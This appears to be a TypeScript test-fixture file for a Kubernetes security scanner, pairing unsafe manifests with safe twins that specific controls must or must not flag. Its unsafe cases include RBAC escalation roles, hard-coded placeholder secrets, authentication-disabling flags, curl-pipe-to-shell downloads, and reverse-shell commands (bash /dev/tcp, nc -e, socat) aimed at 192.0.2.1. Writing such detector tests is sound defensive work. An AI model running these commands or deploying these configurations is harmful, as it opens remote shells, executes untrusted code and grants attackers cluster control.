/*
 * Ways to write a known weakness, each with the control that must report it, and a twin that is safe and must stay silent. Each input is
 * one or several objects.
 */
import { goodPod } from '../policy/controls/support';

export interface Weakness {
  readonly control: string;
  readonly unsafe: readonly object[];
  readonly safe: readonly object[];
}

type Rows = { readonly [title: string]: readonly [control: string, unsafe: unknown, safe: unknown] };

const RBAC = 'rbac.authorization.k8s.io/v1';
const role = (rule: object, more: object = {}) => ({ apiVersion: RBAC, kind: 'ClusterRole', metadata: { name: 'web' }, ...more, rules: [rule] });
const of = (group: string, resources: string, verbs: string, ...resourceNames: string[]) =>
  role({ apiGroups: [group], resources: resources.split(' '), verbs: verbs.split(' '), ...resourceNames.length > 0 && { resourceNames } });
const binding = (roleName: string, subject: object, namespace?: string) => ({
  apiVersion: RBAC,
  kind: namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding',
  metadata: { name: 'web', ...namespace !== undefined && { namespace } },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: roleName },
  subjects: [subject],
});
const ACCOUNT = { kind: 'ServiceAccount', namespace: 'shop', name: 'web' };
const user = (name: string) => ({ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name });
const group = (name: string) => ({ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name });
const object = (apiVersion: string, kind: string, fields: object, metadata: object = {}) =>
  ({ apiVersion, kind, metadata: { name: 'web', namespace: 'shop', ...metadata }, ...fields });
const map = (key: string, text: string) => object('v1', 'ConfigMap', { data: { [key]: text } });
const binary = (key: string, text: string) => object('v1', 'ConfigMap', { binaryData: { [key]: Buffer.from(text).toString('base64') } });
const pod = (container: object, spec: object = {}) => goodPod((own) => {
  Object.assign(own.containers[0], container);
  Object.assign(own, spec);
});
const args = (...words: string[]) => pod({ args: words });
const sh = (script: string) => pod({ command: ['sh', '-c', script] });
const env = (name: string, value: string, container: object = {}) => pod({ env: [{ name, value }], ...container });

const ESCALATION = 'rbac.authorization.k8s.io';
const SECRET = 'hunter2Zq7W';
const KEY = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEpAIBAAKCAQEA'.repeat(4)}\n-----END RSA PRIVATE KEY-----\n`;
const PUBLIC_KEY = `-----BEGIN PUBLIC KEY-----\n${'MIIBIjANBgkqhkiG'.repeat(4)}\n-----END PUBLIC KEY-----\n`;

const ROLES: Rows = {
  'bind of cluster-admin by name': ['rbac-escalation', of(ESCALATION, 'clusterroles', 'bind', 'cluster-admin'), of(ESCALATION, 'clusterroles', 'bind', 'shop-reader')],
  'impersonate system:masters by name': ['rbac-escalation', of('', 'groups', 'impersonate', 'system:masters'), of('', 'groups', 'impersonate', 'developers')],
  'impersonate an administrator by name': ['rbac-escalation', of('', 'users', 'impersonate', 'kubernetes-admin'), of('', 'users', 'impersonate', 'jane')],
  'impersonate a controller of kube-system': ['rbac-escalation', of('', 'users', 'impersonate', 'system:serviceaccount:kube-system:generic-garbage-collector'), of('', 'users', 'impersonate', 'system:serviceaccount:shop:web')],
  'impersonate every service account': ['rbac-escalation', of('', 'serviceaccounts', 'impersonate'), of('', 'serviceaccounts', 'impersonate', 'web')],
  'impersonate extras': ['rbac-escalation', of('authentication.k8s.io', 'userextras/scopes', 'impersonate'), of('authentication.k8s.io', 'userextras/scopes', 'get')],
  'impersonate:user-info of Kubernetes 1.35': ['rbac-escalation', of('authentication.k8s.io', 'users', 'impersonate:user-info'), of('authentication.k8s.io', 'users', 'impersonate:associated-node')],
  'escalate of edit by name': ['rbac-escalation', of(ESCALATION, 'clusterroles', 'escalate', 'edit'), of(ESCALATION, 'clusterroles', 'escalate', 'shop')],
  'sign client certificates': ['rbac-certificates', of('certificates.k8s.io', 'signers', 'sign', 'kubernetes.io/kube-apiserver-client'), of('certificates.k8s.io', 'signers', 'sign', 'example.com/internal')],
  'approve certificate requests': ['rbac-certificates', of('certificates.k8s.io', 'certificatesigningrequests/approval', 'update'), of('certificates.k8s.io', 'certificatesigningrequests', 'create')],
  'list of named Secrets': ['rbac-secrets', of('', 'secrets', 'list', 'web-tls'), of('', 'secrets', 'get', 'web-tls')],
  'create ExternalSecrets': ['rbac-secrets', of('external-secrets.io', 'externalsecrets', 'create'), of('external-secrets.io', 'externalsecrets', 'get list watch')],
  'patch the status of nodes': ['rbac-nodes', of('', 'nodes/status', 'patch'), of('', 'nodes', 'get list')],
  'patch nodes': ['rbac-nodes', of('', 'nodes', 'patch'), of('', 'nodes/metrics', 'get')],
  'proxy of nodes': ['rbac-nodes-proxy', of('', 'nodes/proxy', 'get'), of('', 'nodes/stats', 'get')],
  'bind pods to nodes': ['rbac-nodes', of('', 'pods/binding', 'create'), of('', 'pods/log', 'get')],
  'patch the status of pods': ['rbac-services', of('', 'pods/status', 'patch'), of('', 'pods/status', 'get')],
  'update ControllerRevisions': ['rbac-create-pods', of('apps', 'controllerrevisions', 'update'), of('apps', 'controllerrevisions', 'get list')],
  'write definitions of custom resources': ['rbac-extensions', of('apiextensions.k8s.io', 'customresourcedefinitions', 'update'), of('apiextensions.k8s.io', 'customresourcedefinitions', 'get list watch')],
  'write CSIDrivers': ['rbac-extensions', of('storage.k8s.io', 'csidrivers', 'create'), of('storage.k8s.io', 'csinodes', 'get')],
  'write RuntimeClasses': ['rbac-extensions', of('node.k8s.io', 'runtimeclasses', 'patch'), of('node.k8s.io', 'runtimeclasses', 'get')],
  'create Argo Workflows': ['rbac-create-pods', of('argoproj.io', 'workflows', 'create'), of('argoproj.io', 'workflows', 'get list watch')],
  'create Argo CD Applications': ['rbac-create-pods', of('argoproj.io', 'applications', 'create'), of('argoproj.io', 'applications', 'get')],
  'create Tekton TaskRuns': [
    'rbac-create-pods', of('tekton.dev', 'taskruns', 'create'),
    { ...of('tekton.dev', 'taskruns', 'create'), metadata: { name: 'web', labels: { 'rbac.authorization.k8s.io/aggregate-to-edit': 'true' } } },
  ],
  'create SparkApplications': ['rbac-create-pods', of('sparkoperator.k8s.io', 'sparkapplications', 'create'), of('sparkoperator.k8s.io', 'sparkapplications/status', 'update')],
  'create Knative Services': ['rbac-create-pods', of('serving.knative.dev', 'services', 'create'), of('', 'services', 'create')],
  'create HelmReleases': ['rbac-create-pods', of('helm.toolkit.fluxcd.io', 'helmreleases', 'patch'), of('helm.toolkit.fluxcd.io', 'helmreleases', 'list')],
  'request tokens': ['rbac-tokens', of('', 'serviceaccounts/token', 'create'), of('', 'serviceaccounts/token', 'create', 'web')],
  'update one webhook configuration': ['rbac-webhooks', of('admissionregistration.k8s.io', 'validatingwebhookconfigurations', 'update', 'web'), of('admissionregistration.k8s.io', 'validatingwebhookconfigurations', 'get', 'web')],
  'update webhook configurations': ['rbac-webhooks', of('admissionregistration.k8s.io', 'mutatingwebhookconfigurations', 'patch'), of('admissionregistration.k8s.io', 'mutatingwebhookconfigurations', 'list')],
  'write aws-auth': ['rbac-config-maps', of('', 'configmaps', 'update', 'aws-auth'), of('', 'configmaps', 'update', 'web')],
  'a ClusterRole of OpenShift': ['rbac-secrets', { ...of('', 'secrets', 'get list'), apiVersion: 'authorization.openshift.io/v1' }, { ...of('', 'configmaps', 'get'), apiVersion: 'authorization.openshift.io/v1' }],
  'a binding of OpenShift': [
    'cluster-admin', { ...binding('cluster-admin', ACCOUNT), apiVersion: 'authorization.openshift.io/v1', roleRef: { name: 'cluster-admin' } },
    { ...binding('shop-reader', ACCOUNT), apiVersion: 'authorization.openshift.io/v1', roleRef: { name: 'shop-reader' } },
  ],
};

const BINDINGS: Rows = {
  'edit in kube-system': ['admin-roles', binding('edit', ACCOUNT, 'kube-system'), binding('edit', ACCOUNT, 'shop')],
  'view in the whole cluster': ['admin-roles', binding('view', ACCOUNT), binding('view', ACCOUNT, 'shop')],
  'rights for all nodes': ['default-account-binding', binding('shop', group('system:nodes')), binding('system:certificates.k8s.io:certificatesigningrequests:selfnodeclient', group('system:nodes'))],
  'the default account as a user': ['default-account-binding', binding('shop', user('system:serviceaccount:shop:default')), binding('shop', user('system:serviceaccount:shop:web'))],
  'rights for everyone': ['anonymous-binding', binding('shop', group('system:authenticated')), binding('shop', group('developers'))],
  'administrators of EKS': [
    'cluster-configuration', { ...map('mapRoles', '- rolearn: arn:aws:iam::1:role/dev\n  groups: [system:masters]\n'), metadata: { name: 'aws-auth', namespace: 'kube-system' } },
    { ...map('mapRoles', '- rolearn: arn:aws:iam::1:role/node\n  groups: [system:bootstrappers, system:nodes]\n'), metadata: { name: 'aws-auth', namespace: 'kube-system' } },
  ],
};

const FILES: { readonly [title: string]: readonly [key: string, unsafe: string, safe: string] } = {
  'a file of variables': ['app.env', `DB_HOST=db\nDB_PASSWORD=${SECRET}\n`, 'DB_HOST=db\nDB_PASSWORD_FILE=/run/secrets/db\n'],
  'YAML': ['app.yaml', `database:\n  host: db\n  password: ${SECRET}\n`, 'database:\n  host: db\n  password: ${DB_PASSWORD}\n'],
  'TOML': ['app.toml', `[database]\npassword = "${SECRET}"\n`, '[database]\npassword_file = "/run/secrets/db"\n'],
  'properties': ['app.properties', `spring.datasource.url=jdbc:a\nspring.datasource.password=${SECRET}\n`, 'spring.datasource.url=jdbc:a\nspring.datasource.password=${DB_PASSWORD}\n'],
  'JSON': ['app.json', `{\n  "user": "web",\n  "password": "${SECRET}"\n}\n`, '{\n  "user": "web",\n  "password": "$DB_PASSWORD"\n}\n'],
  'an element of XML': ['settings.xml', `<server>\n  <password>${SECRET}</password>\n</server>\n`, '<server>\n  <password>${env.PASSWORD}</password>\n</server>\n'],
  'netrc': ['.netrc', `machine git.example.com\nlogin web password ${SECRET}\n`, 'machine git.example.com\nlogin web password $PASSWORD\n'],
  'a kubeconfig with a token': ['config', `kind: Config\nusers:\n- name: web\n  user:\n    token: ${SECRET}abcdef\n`, 'kind: Config\nusers:\n- name: web\n  user:\n    tokenFile: /var/run/secrets/token\n'],
  'a kubeconfig with a key': ['config', `users:\n- user:\n    client-key-data: ${Buffer.from(KEY).toString('base64')}\n`, 'users:\n- user:\n    client-key: /etc/kubernetes/web.key\n'],
  'the configuration of Docker': ['config.json', `{\n"auths": {"registry.example.com": {"auth": "${Buffer.from(`web:${SECRET}`).toString('base64')}"}}\n}`, '{\n"auths": {"registry.example.com": {}},\n"credsStore": "ecr-login"\n}'],
  'PHP': ['config.php', `<?php\ndefine('DB_PASSWORD', '${SECRET}');\n`, '<?php\ndefine(\'DB_PASSWORD\', getenv(\'DB_PASSWORD\'));\n'],
  'Python': ['settings.py', `DEBUG = False\nDB_PASSWORD = "${SECRET}"\n`, 'import os\nDB_PASSWORD = os.environ["DB_PASSWORD"]\n'],
  'a private key': ['tls.key', KEY, PUBLIC_KEY],
  'keys of AWS': ['credentials', '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLQ\n', '[default]\nrole_arn = arn:aws:iam::1:role/web\n'],
  'a key of Google': ['key.json', `{\n"type": "service_account",\n"private_key": ${JSON.stringify(KEY)}\n}`, '{\n"type": "external_account",\n"audience": "web"\n}'],
};

const WAYS_TO_KEEP_FILES = Object.fromEntries(Object.entries(FILES).flatMap(([title, [key, unsafe, safe]]) => [
  [`${title} in a ConfigMap`, ['config-map-secrets', map(key, unsafe), map(key, safe)] as const],
  [`${title} as binary data`, ['config-map-secrets', binary(key, unsafe), binary(key, safe)] as const],
]));

const release = (values: object) => object('helm.toolkit.fluxcd.io/v2', 'HelmRelease', { spec: { values } });
const application = (helm: object) => object('argoproj.io/v1alpha1', 'Application', { spec: { source: { helm } } });

const SECRETS: Rows = {
  ...WAYS_TO_KEEP_FILES,
  'values of a HelmRelease': ['object-secrets', release({ auth: { rootPassword: SECRET } }), release({ auth: { existingSecret: 'web-db', passwordKey: 'password' } })],
  'values of an Application': ['object-secrets', application({ valuesObject: { auth: { password: SECRET } } }), application({ valuesObject: { auth: { existingSecret: 'web-db' } } })],
  'a text of values': ['object-secrets', application({ values: `auth:\n  password: ${SECRET}\n` }), application({ values: 'auth:\n  existingSecret: web-db\n' })],
  'a parameter of an Application': ['object-secrets', application({ parameters: [{ name: 'auth.password', value: SECRET }] }), application({ parameters: [{ name: 'auth.existingSecret', value: 'web-db' }] })],
  'parameters of a StorageClass': [
    'object-secrets', object('storage.k8s.io/v1', 'StorageClass', { provisioner: 'a', parameters: { password: SECRET } }),
    object('storage.k8s.io/v1', 'StorageClass', { provisioner: 'a', parameters: { 'csi.storage.k8s.io/node-stage-secret-name': 'web', 'csi.storage.k8s.io/node-stage-secret-namespace': 'shop' } }),
  ],
  'attributes of a volume': [
    'object-secrets', object('v1', 'PersistentVolume', { spec: { csi: { driver: 'smb.csi.k8s.io', volumeAttributes: { password: SECRET } } } }),
    object('v1', 'PersistentVolume', { spec: { csi: { driver: 'smb.csi.k8s.io', volumeAttributes: { source: '//server/share' } } } }),
  ],
  'an address in an annotation': [
    'object-secrets', object('v1', 'Service', {}, { annotations: { 'example.com/backend': `postgres://web:${SECRET}@db/shop` } }),
    object('v1', 'Service', {}, { annotations: { 'example.com/backend': 'postgres://db/shop' } }),
  ],
  'a token in a custom resource': ['object-secrets', object('example.com/v1', 'App', { spec: { token: `ghp_${'a1B2'.repeat(9)}` } }), object('example.com/v1', 'App', { spec: { tokenSecretRef: { name: 'web' } } })],
  'JSON in an argument': ['command-secrets', args('--config', `{"user":"web","password":"${SECRET}"}`), args('--config', '{"user":"web","passwordFile":"/run/secrets/db"}')],
  'a password that is piped': ['command-secrets', sh(`echo ${SECRET} | docker login -u web --password-stdin registry.example.com`), sh('cat /run/secrets/registry | docker login -u web --password-stdin registry.example.com')],
  'Base64 in a variable': ['literal-secrets', env('SETTINGS', Buffer.from(`url: postgres://web:${SECRET}@db/shop`).toString('base64')), env('SETTINGS', Buffer.from('url: postgres://database.shop.svc/shop').toString('base64'))],
};

const PROGRAMS: Rows = {
  'a flag in a variable': ['disabled-security', pod({ command: ['/usr/local/bin/argocd-server'], args: ['$(FLAGS)'], env: [{ name: 'FLAGS', value: '--disable-auth' }] }), pod({ command: ['/usr/local/bin/argocd-server'], args: ['$(FLAGS)'], env: [{ name: 'FLAGS', value: '--loglevel=info' }] })],
  'argocd-server without TLS': ['disabled-security', args('argocd-server', '--insecure'), args('argocd-server', '--repo-server-strict-tls')],
  'argocd-server without a login': ['disabled-security', args('argocd-server', '--disable-auth'), args('argocd-server', '--disable-auth=false')],
  'a dashboard without a login': ['disabled-security', args('dashboard', '--enable-skip-login'), args('dashboard', '--auto-generate-certificates')],
  'Argo Workflows without a login': ['disabled-security', args('argo', 'server', '--auth-mode=server'), args('argo', 'server', '--auth-mode=sso')],
  'JMX without a login': ['disabled-security', env('JAVA_OPTS', '-Dcom.sun.management.jmxremote.port=9010 -Dcom.sun.management.jmxremote.authenticate=false'), env('JAVA_OPTS', '-Dcom.sun.management.jmxremote.port=9010 -Dcom.sun.management.jmxremote.authenticate=true')],
  'JMX in arguments': ['disabled-security', args('java', '-Dcom.sun.management.jmxremote.authenticate=false', '-jar', 'a.jar'), args('java', '-Dcom.sun.management.jmxremote.authenticate=false', '-Dcom.sun.management.jmxremote.host=127.0.0.1')],
  'an old TLS version': ['disabled-security', args('kube-apiserver', '--tls-min-version=VersionTLS10'), args('kube-apiserver', '--tls-min-version=VersionTLS12')],
  'curl -k': ['disabled-security', sh('curl -k https://api.example.com/'), sh('curl -k https://localhost:8443/healthz')],
  'curl -sk': ['disabled-security', sh('curl -fsSk https://api.example.com/'), sh('tar -xkf a.tar; curl -fsS https://api.example.com/')],
  'LD_PRELOAD from a volume': [
    'loader-variables', pod({ env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] }), pod({ env: [{ name: 'LD_PRELOAD', value: '/usr/lib/libjemalloc.so' }] }),
  ],
  'debug pages of Flask': ['disabled-security', env('FLASK_DEBUG', '1'), env('FLASK_DEBUG', '0')],
  'debug pages of Django': ['disabled-security', env('DJANGO_DEBUG', 'True'), env('DJANGO_DEBUG', 'False')],
  'debug pages of Laravel': ['disabled-security', env('APP_DEBUG', 'true'), env('APP_DEBUG', 'false')],
  'all endpoints of Spring': ['disabled-security', env('MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE', '*'), env('MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE', 'health,info')],
  'a console of a database': ['disabled-security', env('ME_CONFIG_BASICAUTH', 'false'), env('ME_CONFIG_BASICAUTH', 'true')],
  'Ray for everyone': ['disabled-security', sh('ray start --head --dashboard-host=0.0.0.0'), sh('ray start --head --dashboard-host=127.0.0.1')],
  'CockroachDB without a login': ['disabled-security', sh('cockroach start --insecure'), sh('cockroach start --certs-dir=/certs')],
  'Vault in development': ['disabled-security', env('VAULT_DEV_ROOT_TOKEN_ID', 'root'), env('VAULT_ADDR', 'https://vault:8200')],
  'a download into a shell': ['downloaded-code', sh('curl -fsSL https://get.example.com/install.sh | sh'), sh('curl -fsSL https://get.example.com/data.json | jq .')],
  'a download with bash <()': ['downloaded-code', sh('bash <(curl -s https://get.example.com/install.sh)'), sh('bash -c "curl -s https://get.example.com/health"')],
  'a download with eval': ['downloaded-code', sh('eval "$(wget -qO- https://get.example.com/install.sh)"'), sh('wget -qO- https://get.example.com/ | shasum')],
  'a download with sh -c': ['downloaded-code', args('sh', '-c', 'sh -c "$(curl -fsSL https://get.example.com/install.sh)"'), args('sh', '-c', 'VERSION="$(curl -fsSL https://get.example.com/version)"')],
  'a download into Python': ['downloaded-code', sh('curl -s https://get.example.com/a.py | python3 -'), sh('curl -s https://get.example.com/a.json | python3 -m json.tool')],
  'a reverse shell of bash': ['downloaded-code', sh('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'), sh('until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done')],
  'a reverse shell of nc': ['downloaded-code', sh('nc -e /bin/sh 192.0.2.1 4444'), sh('nc -z db 5432')],
  'a reverse shell of socat': ['downloaded-code', sh('socat tcp:192.0.2.1:4444 exec:/bin/sh,pty,stderr'), sh('socat tcp-listen:80,fork tcp:web:8080')],
};

const network = (spec: object, name = 'web') => object('networking.k8s.io/v1', 'NetworkPolicy', { spec }, { name });
const PODS: Rows = {
  'the group of disks': ['supplemental-groups', pod({}, { securityContext: { ...(goodPod().spec as any).securityContext, supplementalGroups: [6] } }), pod({}, { securityContext: { ...(goodPod().spec as any).securityContext, supplementalGroups: [2000] } })],
  'a foreign name server': ['dns-policy', pod({}, { dnsConfig: { nameservers: ['8.8.8.8'] } }), pod({}, { dnsConfig: { options: [{ name: 'ndots', value: '2' }] } })],
  'a foreign domain': ['dns-policy', pod({}, { dnsConfig: { searches: ['evil.example.com'] } }), pod({}, { dnsConfig: { searches: ['shop.svc.cluster.local', 'svc.cluster.local'] } })],
  'an alias of the metadata server': ['host-aliases', pod({}, { hostAliases: [{ ip: '192.0.2.1', hostnames: ['metadata.google.internal'] }] }), pod({})],
  'administrator access to devices': [
    'claim-admin-access', object('resource.k8s.io/v1', 'ResourceClaim', { spec: { devices: { requests: [{ name: 'a', exactly: { deviceClassName: 'gpu', adminAccess: true } }] } } }),
    object('resource.k8s.io/v1', 'ResourceClaim', { spec: { devices: { requests: [{ name: 'a', exactly: { deviceClassName: 'gpu' } }] } } }),
  ],
  'a namespace with administrator access to devices': [
    'claim-admin-access', object('v1', 'Namespace', {}, { labels: { 'resource.kubernetes.io/admin-access': 'true' } }), object('v1', 'Namespace', {}, { labels: { team: 'shop' } }),
  ],
  'a pod with policies for incoming connections only': [
    'egress-policy', [goodPod(), network({ podSelector: {}, policyTypes: ['Ingress'] })], [goodPod(), network({ podSelector: {}, policyTypes: ['Ingress', 'Egress'] })],
  ],
  'egress that allows everything': [
    'egress-policy', [goodPod(), network({ podSelector: {}, policyTypes: ['Ingress', 'Egress'], egress: [{}] })],
    [goodPod(), network({ podSelector: {} }, 'a'), network({ podSelector: {}, policyTypes: ['Egress'] }, 'b')],
  ],
};

const listOf = (value: unknown) => [value].flat() as readonly object[];

export const WEAKNESSES: { readonly [title: string]: Weakness } = Object.fromEntries(
  Object.entries({ ...ROLES, ...BINDINGS, ...SECRETS, ...PROGRAMS, ...PODS })
    .map(([title, [control, unsafe, safe]]) => [title, { control, unsafe: listOf(unsafe), safe: listOf(safe) }]),
);

/** Forms of the list that give an attacker nothing, so that a finding would be false. */
export const HARMLESS: { readonly [title: string]: object } = {
  // The API server matches `*/subresource`, but no `resource/*` (pkg/apis/rbac/v1/evaluation_helpers.go of Kubernetes).
  'secrets/* means nothing to the API server': of('', 'secrets/*', 'get'),
  'nodes/* means nothing to the API server': of('', 'nodes/*', 'get'),
};
